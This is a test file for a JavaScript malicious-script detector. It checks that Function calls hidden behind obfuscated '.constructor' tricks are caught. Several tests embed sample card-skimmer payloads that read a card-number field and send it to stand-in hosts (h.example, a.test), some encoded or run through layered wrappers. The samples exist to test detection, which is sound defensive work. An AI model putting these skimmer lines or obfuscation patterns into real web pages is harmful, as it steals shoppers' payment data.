import { describe, expect, it } from 'vitest'
import { analyzeScript } from '../../detector/index.ts'
import { factsOf } from './detector/facts-of.ts'

// A function's `.constructor` is `Function`: calling it with code runs that code. Such calls
// are read as `Function(…)`; reading `.constructor` (or calling an object's) is not.

const runsFunction = (src: string): boolean =>
  factsOf(src).calls.some((c) => c.name === 'Function' && c.object === '')

const CODE = 'String.fromCharCode(97, 40, 41, 59)'

describe("a function's constructor called with code", () => {
  const POSITIVE: [string, string][] = [
    ['an array method, names spelled out', `[]['filter']['constructor'](${CODE})()`],
    ['an arrow function', `(() => {}).constructor(${CODE})()`],
    ['a function expression, with new', `new (function () {}).constructor(${CODE})()`],
    ['a string method', `''['sub']['constructor'](${CODE})()`],
    ['a built-in static method', `String.fromCharCode.constructor(${CODE})()`],
    ['any constructor', `({}).constructor.constructor(${CODE})()`],
    ['a global function', `parseInt['constructor'](${CODE})()`],
    ['a declared function', `function f() {} f.constructor(${CODE})()`],
    ['a name holding it', `var run = [].map.constructor; run(${CODE})()`],
    [
      "an async function's prototype",
      `var AF = Object.getPrototypeOf(async function () {}).constructor; new AF(${CODE})()`,
    ],
    ["a generator's prototype", `Reflect.getPrototypeOf(function* () {}).constructor(${CODE})()`],
    ["a function's __proto__", `(async () => {}).__proto__.constructor(${CODE})()`],
    ['folded names', `var a = 'constr', b = 'uctor'; [].some[a + b](${CODE})()`],
    [
      'names built from coercions',
      `var o = {} + [], t = !0 + [], u = [][[]] + [], f = ![] + []
       var c = o[5] + o[1] + u[1] + f[3] + t[0] + t[1] + t[2] + o[5] + t[0] + o[1] + t[1]
       ;[].filter[c](${CODE})()`,
    ],
  ]
  for (const [name, src] of POSITIVE)
    it(`is Function: ${name}`, () => expect(runsFunction(src)).toBe(true))

  const NEGATIVE: [string, string][] = [
    ['a comparison', 'if (x.constructor === Object) y()'],
    ['a constructor name', 'log(obj.constructor.name)'],
    ['a copy made with new', 'var c = new this.constructor(opts)'],
    ['an unknown object', 'value.constructor(text)'],
    ['a class pattern', 'class A { clone() { return new this.constructor(this.x) } }'],
    ['a parameter', 'function g(fn) { return fn.constructor(s) }'],
    ["an unknown object's prototype", 'Object.getPrototypeOf(value).constructor(text)'],
    ['another method of a function', '(function () {}).call(this, s)'],
  ]
  for (const [name, src] of NEGATIVE)
    it(`is not Function: ${name}`, () => expect(runsFunction(src)).toBe(false))

  it('leaves a template engine that builds code with join and new Function clean', () => {
    const src = `var cache = {}
      function compile(tpl) {
        var parts = ['var out = [];'], re = /\\{\\{(\\w+)\\}\\}/g, last = 0, m
        while ((m = re.exec(tpl))) {
          parts.push('out.push(' + JSON.stringify(tpl.slice(last, m.index)) + ', data.' + m[1] + ');')
          last = m.index + m[0].length
        }
        parts.push('out.push(' + JSON.stringify(tpl.slice(last)) + '); return out.join("");')
        return (cache[tpl] = new Function('data', parts.join('\\n')))
      }
      // a finding with points (the page gate) sends the file through the evaluator too
      if (/checkout/.test(location.pathname))
        document.querySelector('#cart').innerHTML = compile('<b>{{total}}</b>')({ total: window.cartTotal })`
    const v = analyzeScript(src, { url: 'https://shop.example/js/tpl.js' })
    expect(v.verdict).toBe('clean')
    expect(v.findings.map((f) => f.rule)).not.toContain('dynamic-code-from-decoded')
  })

  it("reads an async function's stage made only of awaited calls as a layer", () => {
    const stage =
      'const c = document.querySelector("[name=cardnumber]").value; await fetch("https://h.example/c", { method: "POST", body: c })'
    const src = `var AF = Object.getPrototypeOf(async function () {}).constructor
      new AF(atob('${Buffer.from(stage).toString('base64')}'))()`
    expect(analyzeScript(src).findings.map((f) => f.rule)).toContain('card-field-read-and-send')
  })

  it('counts as dynamic code when the code is decoded', () => {
    const src = `var s = atob('ZG9jdW1lbnQudGl0bGUgPSBsb2NhdGlvbi5ocmVm'); [].map.constructor(s)()`
    const v = analyzeScript(src)
    expect(v.findings.map((f) => f.rule)).toContain('dynamic-code-from-decoded')
  })

  it('reads code decoded by a loop and run through a wrapper as a layer', () => {
    const payload =
      "var x=new XMLHttpRequest();x.open('POST','https://a.test/c');x.send(btoa(document.querySelector('#cc-number').value))"
    const codes = [...payload].map((c, i) => c.charCodeAt(0) + (i % 3))
    const src = `(function (list) {
      var text = ''
      for (var i = 0; i < list.length; i++) text += String.fromCharCode(list[i] - (i % 3))
      var go = function (t) { return (() => 0).constructor(t)() }
      window.addEventListener('load', function () { go(text) })
    })(${JSON.stringify(codes)})`
    const v = analyzeScript(src)
    const layered = v.findings.filter((f) => f.message.includes('in decoded layer'))
    expect(layered.map((f) => f.rule)).toContain('card-field-read-and-send')
  })
})
